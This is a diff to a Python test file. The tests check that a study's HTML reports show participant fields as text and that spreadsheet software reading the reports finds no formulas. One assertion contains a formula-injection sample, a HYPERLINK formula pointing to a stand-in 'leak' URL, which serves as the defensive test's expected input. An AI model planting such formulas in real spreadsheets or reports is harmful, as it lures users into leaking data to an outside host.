@@ -22,6 +22,7 @@ import json
 import os
 import re
 import subprocess
+import zipfile
 from pathlib import Path
 
 import pandas as pd
@@ -255,18 +256,18 @@ def test_demographics_and_participant_text_shown_as_text_never_run(study, chromi
         "e.textContent.trim()])")  # fmt: skip
     title = page.title()
     scripts = page.eval_on_selector_all("body script", "els => els.length")
-    bold = page.eval_on_selector_all("[data-field=participant-fields] b", "els => els.length")
+    bold = page.eval_on_selector_all("[data-participant-field] b", "els => els.length")
     page.close()
     assert errors == []
     assert "pwned" not in title
     assert scripts == 0  # the field's HTML is text
     assert bold == 0
     shown = dict(fields)
-    assert shown["age"] == "age: 71"
-    assert shown["note"] == "note: " + HOSTILE["note"]
+    assert shown["age"] == "71"
+    assert shown["note"] == HOSTILE["note"]
     # A spreadsheet never sees a formula: the common escape, a leading apostrophe.
-    assert shown["group"] == "group: '" + HOSTILE["group"]
-    assert shown["cmd"] == "cmd: '" + HOSTILE["cmd"]
+    assert shown["group"] == "'" + HOSTILE["group"]
+    assert shown["cmd"] == "'" + HOSTILE["cmd"]
 
 
 def test_a_problem_without_a_move_draws_no_empty_axis(study):
@@ -448,3 +449,41 @@ def test_a_cell_a_spreadsheet_would_run_is_escaped(value, shown):
     from tol_analysis.report import safe_cell
 
     assert safe_cell(value) == shown
+
+
+def _formula_cells(pages: list[Path], folder: Path) -> dict[str, list[str]]:
+    """Open each page in LibreOffice Calc (headless, Debian's), as a person pasting a report's
+    tables into a spreadsheet would, and list the cells it reads as formulas."""
+    from tests.system_tools import program
+
+    done = subprocess.run(
+        [program("soffice"), "--headless", f"-env:UserInstallation={(folder / 'lo').as_uri()}",
+         "--infilter=HTML (StarCalc)", "--convert-to", "ods", "--outdir", str(folder),
+         *map(str, pages)],
+        capture_output=True, text=True, timeout=300, check=False,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    out = {}
+    for page in pages:
+        with zipfile.ZipFile(folder / f"{page.stem}.ods") as ods:
+            content = ods.read("content.xml").decode("utf-8")
+        assert "<table:table-cell" in content, page.name  # the tables arrived
+        out[page.name] = re.findall(r'table:formula="([^"]+)"', content)
+    return out
+
+
+@pytest.mark.slow  # LibreOffice starts once (about 10 s)
+def test_a_spreadsheet_reading_the_reports_finds_no_formula(study, tmp_path):
+    root, _, _ = study
+    pages = [root / "reports" / "P02_ses-1.html", root / "reports" / "index.html"]
+    # The check can fail: the same field written raw in a table is a formula to Calc.
+    raw = tmp_path / "raw.html"
+    raw.write_text(f"<table><tr><td>{HOSTILE['group']}</td></tr></table>", encoding="utf-8")
+    found = _formula_cells([*pages, raw], tmp_path)
+    assert found["raw.html"] == ['of:=HYPERLINK(&quot;http://example.com/?leak&quot;;&quot;click '
+                                 'me&quot;)']  # fmt: skip
+    assert found["P02_ses-1.html"] == []
+    assert found["index.html"] == []
+    with zipfile.ZipFile(tmp_path / "P02_ses-1.ods") as ods:
+        text = ods.read("content.xml").decode("utf-8")
+    assert "<text:p>&apos;=HYPERLINK(&quot;http://example.com/?leak&quot;" in text  # as text
